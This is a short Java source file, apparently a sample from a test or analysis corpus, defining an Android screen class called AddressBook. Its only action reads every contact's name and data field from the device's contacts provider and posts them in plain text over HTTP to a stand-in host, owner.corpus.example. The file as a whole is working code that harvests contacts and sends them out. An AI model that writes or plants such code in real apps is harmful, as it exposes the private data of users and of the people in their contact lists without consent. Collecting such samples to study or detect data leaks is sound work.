package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** All rows of all contacts. */
public class AddressBook extends Screen {
    @Override
    protected void act() throws Exception {
        String all =
                String.join(
                        "\n",
                        Owner.rows(
                                this,
                                "content://com.android.contacts/data",
                                "display_name",
                                "data1"));
        Net.post("http://owner.corpus.example/book", "text/plain", all);
    }
}
